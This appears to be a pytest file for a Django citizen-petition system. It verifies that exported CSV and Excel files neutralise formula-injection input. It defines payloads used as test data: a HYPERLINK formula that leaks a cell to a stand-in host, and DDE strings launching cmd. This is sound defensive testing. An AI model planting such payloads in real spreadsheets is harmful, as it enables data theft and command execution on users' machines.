"""Text typed by citizens and staff never becomes a live formula in the CSV and Excel files the project
writes: the open-data CSV, the reception register and compliance report, the plans cascade and the
oversight report. Data is made through the services and downloaded through the views, as a user would."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from conftest import COMMUNE, OTHER_COMMUNE, make_user
from pakn.cases import services as case_services
from pakn.core.spreadsheet import FORMULA_STARTS, safe_cell
from pakn.org.models import Unit
from pakn.plans import services as plan_services
from pakn.public import services as public_services
from pakn.reception import services as reception_services

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
UNIT = f"UBND-{COMMUNE}"
HYPERLINK = '=HYPERLINK("http://x?d="&A2,"Xem chi tiết")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def at(day: date, hour: int = 9) -> datetime:
    return datetime(day.year, day.month, day.day, hour, tzinfo=TZ)


@pytest.fixture
def travel() -> Iterator[Any]:
    traveller = time_machine.travel(at(date(2026, 4, 21)), tick=False)
    yield traveller.start()
    traveller.stop()


def _rename(code: str, name: str) -> Unit:
    """Unit names are typed by administrators in the admin site; there is no service verb for it."""
    Unit.objects.filter(code=code).update(name=name)
    return Unit.objects.get(code=code)


def _csv(client: Client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_formula_field(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, value in row.items():
            assert _is_number(value) or not value.startswith(FORMULA_STARTS), (name, value)


def _cells(content: bytes) -> list[Any]:
    """Every cell of every sheet, as openpyxl reads the file back."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_cell(content: bytes, *expected: str) -> None:
    cells = _cells(content)
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for payload in expected:  # kept whole, as text, behind one apostrophe
        assert any(t == "'" + payload or t.startswith("'" + payload) for t in texts), (payload, texts)
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str) and c.value.startswith("'"))


# ---------------------------------------------------------------- the one function


@pytest.mark.parametrize("payload", [HYPERLINK, DDE, PLUS, AT, MINUS, "\t=1+1", "\r=1+1", "＝1+1", "-5"])
def test_text_that_starts_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-1.5"), 0, True, date(2026, 1, 1), None, "", "Bình thường"])
def test_numbers_dates_and_plain_text_are_unchanged(value: Any) -> None:
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_lazy_text_becomes_plain_text() -> None:
    assert safe_cell(gettext_lazy("Cộng")) == "Cộng"


@given(st.text())
def test_no_text_comes_out_starting_a_formula(text: str) -> None:
    out = safe_cell(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (text, "'" + text)


def test_openpyxl_stores_the_neutralised_text_as_a_string() -> None:
    from openpyxl import Workbook

    sheet = Workbook().active
    sheet.append([safe_cell(HYPERLINK), safe_cell(-5), safe_cell(AT)])
    assert [c.data_type for c in sheet[1]] == ["s", "n", "s"]
    assert sheet["B1"].value == -5


# ---------------------------------------------------------------- open data (CSV)


def test_published_answers_csv_has_no_formula_and_json_is_unchanged(make_case: Any, clerk: Any, head: Any) -> None:
    case = make_case(kind="denunciation", publish=True, title=HYPERLINK)
    case_services.accept_case(actor=clerk, case=case)
    case_services.resolve_case(actor=clerk, case=case, kind="conclusion", body=AT, finding="true")
    public_services.publish_discipline_result(
        actor=head,
        case=case,
        official_position=PLUS,
        violation=DDE,
        measure="warning",
        decision_number=MINUS,
        decided_on="2026-01-05",
        regime="civil_servant",
    )
    client = Client()
    [answer] = _csv(client, "/public/data/answers.csv")
    assert answer["title"] == "'" + HYPERLINK and answer["title"].startswith("'=")
    assert answer["answer"].startswith("'" + AT)
    _assert_no_formula_field([answer])
    [discipline] = _csv(client, "/public/data/discipline.csv")
    assert discipline["official_position"] == "'" + PLUS and discipline["decision_number"] == "'" + MINUS
    assert discipline["violation"].startswith("'=")
    _assert_no_formula_field([discipline])
    [row] = client.get("/public/data/answers.json").json()["rows"]
    assert row["title"] == HYPERLINK  # JSON is data, not a spreadsheet: unchanged


def test_statistics_csv_unit_names_are_not_formulas(make_case: Any, clerk: Any) -> None:
    _rename(UNIT, DDE)
    case = make_case(publish=True)
    case_services.resolve_case(actor=clerk, case=case, body="Đã xử lý.")
    client = Client()
    for dataset in ("units", "months", "topics", "answers", "discipline"):
        rows = _csv(client, f"/public/data/{dataset}.csv?province=01&unit={UNIT}")
        _assert_no_formula_field(rows)
        if dataset == "units":
            assert any(value == "'" + DDE for r in rows for value in r.values()), rows


# ---------------------------------------------------------------- reception (Excel)


def test_reception_register_excel_has_no_formula(clerk: Any, login: Any, travel: Any) -> None:
    entry = reception_services.register_contact(
        actor=clerk,
        unit=Unit.objects.get(code=UNIT),
        received_on=date(2026, 4, 21),
        name="Trần Văn Bình",
        address="5 Liễu Giai, Ba Đình",
        id_number="001085099999",
        phone="0912000111",
        summary=HYPERLINK,
        kind="mixed",
        competence="yes",
        people_count=2,
        handled_before=PLUS,
    )
    reception_services.update_entry(actor=clerk, entry=entry, guidance_document=AT, follow_up=DDE)
    response = login(clerk).get(reverse("reception_register") + f"?unit={entry.unit_id}&format=xlsx")
    assert response.status_code == 200
    _assert_no_formula_cell(response.content, HYPERLINK, PLUS, AT, DDE)
    assert any(c.value == 2 and c.data_type == "n" for c in _cells(response.content))  # numbers stay numbers


def test_reception_compliance_excel_has_no_formula(clerk: Any, login: Any, travel: Any) -> None:
    _rename(UNIT, HYPERLINK)
    session = reception_services.schedule_session(
        actor=clerk,
        unit=Unit.objects.get(code=UNIT),
        date=date(2026, 5, 6),
        start_time=time(8, 0),
        end_time=time(10, 0),
        place=AT,
        presider_name=DDE,
        publish=True,
    )
    travel.move_to(at(date(2026, 5, 6), 16))
    reception_services.record_session_held(actor=clerk, session=session, presider_name=PLUS, presided_by_head=True)
    travel.move_to(at(date(2026, 6, 2)))
    response = login(clerk).get(reverse("reception_compliance") + "?start=2026-05-01&end=2026-05-31&format=xlsx")
    assert response.status_code == 200
    _assert_no_formula_cell(response.content, HYPERLINK)


# ---------------------------------------------------------------- plans (Excel)


def test_plans_cascade_excel_has_no_formula(db: Any, login: Any, travel: Any) -> None:
    city = make_user("thanhuy", unit_code="DU-01", role="clerk")
    ward = make_user("danguy_badinh", unit_code=f"DU-{COMMUNE}", role="clerk")
    city_head = make_user("bithu", unit_code="DU-01", role="head", include_subunits=True)
    travel.move_to(at(date(2026, 1, 5)))
    directive = plan_services.record_directive(
        actor=city, number="54-KL/TW", title=HYPERLINK, issuer=AT, issued_on=date(2023, 5, 9)
    )
    plan = plan_services.issue_plan(
        actor=city,
        directive=directive,
        unit=Unit.objects.get(code="DU-01"),
        number=MINUS,
        title=PLUS,
        issued_on=date(2026, 1, 5),
    )
    task = plan_services.assign_task(
        actor=city, plan=plan, assignee=Unit.objects.get(code=f"DU-{COMMUNE}"), title=DDE, due_on=date(2026, 2, 27)
    )
    plan_services.assign_task(
        actor=city, plan=plan, assignee=Unit.objects.get(code=f"DU-{OTHER_COMMUNE}"), title=AT, due_on=date(2026, 2, 27)
    )
    travel.move_to(at(date(2026, 2, 20)))
    plan_services.report_progress(
        actor=ward, task=task, number=PLUS, percent=100, is_final=True, body=DDE, reported_on=date(2026, 2, 20)
    )
    travel.move_to(at(date(2026, 3, 2)))
    response = login(city_head).get(reverse("plans_directive", args=[directive.pk]) + "?format=xlsx")
    assert response.status_code == 200
    _assert_no_formula_cell(response.content, DDE, AT, MINUS)
    assert any(c.value == 100 and c.data_type == "n" for c in _cells(response.content))  # percent stays a number


# ---------------------------------------------------------------- oversight (Excel)


def test_oversight_report_excel_has_no_formula(make_case: Any, login: Any) -> None:
    _rename(UNIT, HYPERLINK)
    _rename(f"UBND-{OTHER_COMMUNE}", DDE)
    with time_machine.travel(at(date(2026, 3, 10)), tick=False):
        make_case()
    head = make_user("ba_dinh_head", unit_code=UNIT, role="head")
    with time_machine.travel(at(date(2026, 4, 15)), tick=False):
        response = login(head).get(f"/oversight/reports/download.xlsx?unit={UNIT}&kind=month&year=2026&number=3")
    assert response.status_code == 200
    _assert_no_formula_cell(response.content, HYPERLINK)
    assert any(c.value == 1 and c.data_type == "n" for c in _cells(response.content))  # the count stays a number
